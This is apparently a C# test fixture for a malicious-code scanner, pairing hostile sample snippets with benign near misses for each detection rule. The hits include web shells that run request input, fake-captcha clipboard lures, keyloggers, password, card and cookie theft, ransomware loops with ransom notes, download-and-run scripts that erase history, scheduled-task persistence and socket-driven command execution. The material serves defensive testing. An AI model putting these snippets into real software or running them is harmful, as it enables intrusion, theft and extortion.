namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Pages that run requests, lures for the clipboard, extensions that hand keys and logins on, scripts that lock, stay and wipe what was typed, and honest ones that look like them.</summary>
internal static class PageCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("page-runs-request", "z.asp", "<%\nExecuteGlobal Request.QueryString(\"q\")\n%>\n"),
        ("page-runs-request", "y.asp", "<%\nSet r = CreateObject(\"WScript.Shell\").Exec(\"cmd /c \" & Request(\"q\"))\nResponse.Write r.StdOut.ReadAll\n%>\n"),
        ("page-runs-request", "z.ashx", "public void ProcessRequest(HttpContext c) {\n  var text = c.Request.Form[\"s\"];\n  var made = new CSharpCodeProvider().CompileAssemblyFromSource(options, text);\n}\n"),
        ("page-runs-request", "z.aspx", "<%@ Page Language=\"JScript\" %>\n<% eval(Request.Headers[\"x-q\"], \"unsafe\"); %>\n"),
        ("page-runs-request", "y.aspx", "<% byte[] all = Request.BinaryRead(Request.ContentLength);\nAssembly.Load(Turn(all)).CreateInstance(\"A\").Equals(this); %>\n"),

        ("clipboard-lure", "check.html", "<h2>Ich bin kein Roboter</h2>\n<p>1. Windows-Taste + R</p>\n<p>2. Strg + V</p>\n<script>\nbox.onclick = () => navigator.clipboard.writeText('powershell -w h -c \"next\"');\n</script>\n"),
        ("clipboard-lure", "gate.js", "const line = 'cmd /c start next.hta';\nfunction captcha() {\n  area.value = line;\n  area.select();\n  document.execCommand('copy');\n  steps.innerHTML = 'Press Win + R, then Ctrl + V and Enter';\n}\n"),
        ("clipboard-lure", "mac.html", "<p>Confirm you are human</p>\n<p>Open Terminal, press ⌘ + V and Return</p>\n<script>\nnavigator.clipboard.writeText(\"curl -s there | bash\");\n</script>\n"),

        ("watches-and-sends", "in.js", "document.addEventListener('keypress', e => {\n  port.postMessage({ k: e.key, at: location.href });\n});\n"),
        ("watches-and-sends", "in.ts", "$(document).on('keydown', (e) => {\n  browser.runtime.sendMessage({ key: e.key, site: document.URL });\n});\n"),
        ("watches-and-sends", "all.js", "window.onkeyup = function (ev) {\n  kept += ev.key;\n  if (kept.length > 20) chrome.runtime.sendMessage({ kept, host: location.hostname });\n};\n"),

        ("page-secrets-leave", "sign.js", "form.onsubmit = () => {\n  const typed = document.querySelector('input[name=password]').value;\n  new Image().src = there + '?v=' + encodeURIComponent(typed);\n};\n"),
        ("page-secrets-leave", "mark.js", "const typed = document.querySelector('#password').value;\nconst tail = '?d=' + btoa(typed);\ndocument.body.insertAdjacentHTML('beforeend', `<img src=\"${there}${tail}\">`);\n"),
        ("page-secrets-leave", "dot.html", "<script>\nconst pin = document.getElementById('cvc').value;\npixel.src = `${there}?c=${escape(pin)}`;\n</script>\n"),
        ("page-secrets-leave", "head.js", "chrome.webRequest.onSendHeaders.addListener(d => {\n  const cookies = (d.requestHeaders.find(x => x.name.toLowerCase() === 'cookie') || {}).value;\n  relayUp(cookies);\n});\n"),
        ("page-secrets-leave", "head.ts", "page.on('request', (r) => {\n  const auth = r.headers()['authorization'];\n  const kept = r.headers()[\"authorization\"];\n  if (kept) reportSession(auth);\n});\n"),
        ("page-secrets-leave", "worker.js", "function seen(details) {\n  for (const h of details.requestHeaders)\n    if (h.name === 'x-csrf-token') uploadIt(h.value);\n}\nchrome.webRequest.onBeforeSendHeaders.addListener(seen, all, ['requestHeaders']);\n"),

        ("ransom", "shut.js", "for (const f of fs.readdirSync(dir)) {\n  const c = crypto.createCipheriv('aes-256-cbc', k, iv);\n  fs.writeFileSync(f, Buffer.concat([c.update(data), c.final()]));\n}\nconsole.log('Send 2 XMR to unlock them.');\n"),
        ("ransom", "shut.go", "all, _ := os.ReadDir(dir)\nfor _, one := range all {\n\tos.WriteFile(one.Name(), aead.Seal(nil, nonce, data, nil), 0o600)\n}\nfmt.Println(\"Pay 3 BTC within two days.\")\n"),
        ("ransom", "shut.cs", "foreach (var f in Directory.GetFiles(folder)) {\n  using var to = new CryptoStream(s, made, CryptoStreamMode.Write);\n  File.WriteAllBytes(f, kept);\n}\nConsole.WriteLine(\"Your documents are encrypted. Transfer 500 USDT.\");\n"),

        ("traces-removed", "go.ps1", "Invoke-WebRequest $from -OutFile $to\nStart-Process $to\nRemove-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' -Name *\n"),
        ("traces-removed", "go.sh", "curl -so /tmp/x \"$from\"\nchmod +x /tmp/x && /tmp/x &\nrm -f ~/.bash_history\n"),
        ("traces-removed", "typed.ps1", "Start-BitsTransfer -Source $from -Destination $to\nInvoke-Item $to\nClear-Content (Get-PSReadLineOption).HistorySavePath\n"),

        ("planted-start", "soon.bat", "curl -s -o C:\\p\\u.ps1 %FROM%\nschtasks /create /sc minute /mo 10 /tn u /tr \"powershell -File C:\\p\\u.ps1\"\n"),
        ("planted-start", "soon.ps1", "Start-BitsTransfer -Source $from -Destination $to\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $to\n$t = New-ScheduledTaskTrigger -AtLogOn\nRegister-ScheduledTask -TaskName u -Action $a -Trigger $t\n"),
        ("planted-start", "soon.cs", "web.DownloadFile(from, to);\nProcess.Start(\"schtasks\", \"/create /sc onlogon /tn u /tr \\\"wscript \" + to);\nvar line = \"schtasks /create /sc onlogon /tr wscript\";\n"),

        ("remote-commands", "other.cs", "var rd = new StreamReader(client.GetStream());\nvar words = rd.ReadLine().Split(\" \");\nvar name = words.First();\nvar run = new Process();\nrun.StartInfo.FileName = name;\nrun.Start();\n"),
        ("remote-commands", "words.fs", "let s = client.GetStream()\nlet line = reader.ReadLine()\nlet parts = line.Split(' ')\nlet p = Process.Start(first, rest)\n"),
        ("remote-commands", "words.cs", "var s = client.GetStream();\nvar parts = new StreamReader(s).ReadLine().Split(' ');\nvar how = new ProcessStartInfo(parts[0]) { Arguments = rest };\nvar run = Process.Start(how);\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("page-runs-request", "find.asp", "<%\nResponse.Write Server.HTMLEncode(Request.QueryString(\"q\"))\n%>\n"),
        ("page-runs-request", "plug.ashx", "var kind = Assembly.Load(settings.Plugin).GetType(settings.Kind);\nvar made = Activator.CreateInstance(kind);\nLog(made);\n\nKeep(made);\nShow(made);\nCount(made);\nvar page = Request.QueryString[\"page\"];\n"),

        ("clipboard-lure", "install.html", "<pre>curl -s https://get.example.net | sh</pre>\n<p>Open a terminal and paste it with Ctrl + V.</p>\n<script>\nnavigator.clipboard.writeText('curl -s https://get.example.net | sh');\n</script>\n"),
        ("clipboard-lure", "share.html", "<div class=\"captcha\"></div>\n<p>Paste the link with Ctrl + V.</p>\n<script>\nnavigator.clipboard.writeText(location.href);\n</script>\n"),

        ("watches-and-sends", "keys.js", "document.addEventListener('keydown', e => {\n  const key = e.key;\n  if (key === 'j') chrome.runtime.sendMessage({ action: 'next' });\n});\n"),
        ("watches-and-sends", "where.js", "document.addEventListener('click', () => {\n  chrome.runtime.sendMessage({ at: location.href });\n});\n"),

        ("page-secrets-leave", "face.js", "const typed = document.querySelector('#password').value;\nawait login(typed);\nphoto.src = base + '/faces/' + user.id;\n"),
        ("page-secrets-leave", "show.js", "chrome.webRequest.onSendHeaders.addListener(d => {\n  const h = d.requestHeaders.find(x => x.name === 'authorization');\n  showRow(h.value);\n});\n"),

        ("ransom", "keep.py", "for name in os.listdir(folder):\n    data = box.encrypt(read(name))\n    with open(name + '.bak', 'wb') as f:\n        f.write(data)\nprint('kept', len(data))\n"),
        ("ransom", "price.py", "for name in os.listdir(folder):\n    with open(name, 'w') as f:\n        f.write(text)\nprint('price: 2 BTC')\n"),

        ("traces-removed", "setup.ps1", "Invoke-WebRequest $from -OutFile $to\nStart-Process $to -Wait\nRemove-Item $to\n"),
        ("traces-removed", "tidy.ps1", "Remove-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' -Name *\nWrite-Host 'tidy'\n"),

        ("planted-start", "service.ps1", "Invoke-WebRequest $from -OutFile $to\nif ((Get-FileHash $to).Hash -ne $known) { throw 'changed' }\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $to\n$t = New-ScheduledTaskTrigger -AtLogOn\n"),
        ("planted-start", "nightly.ps1", "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-File $PSScriptRoot\\back-up.ps1\"\n$t = New-ScheduledTaskTrigger -AtLogOn\nRegister-ScheduledTask -TaskName keep -Action $a -Trigger $t\n"),

        ("remote-commands", "ask.cs", "var s = client.GetStream();\nvar parts = new StreamReader(s).ReadLine().Split(' ');\nif (parts[0] == \"time\") Write(s, now);\n"),
        ("remote-commands", "line.cs", "var parts = settings.Editor.Split(' ');\nvar run = Process.Start(parts[0], file);\n"),
    ];
}
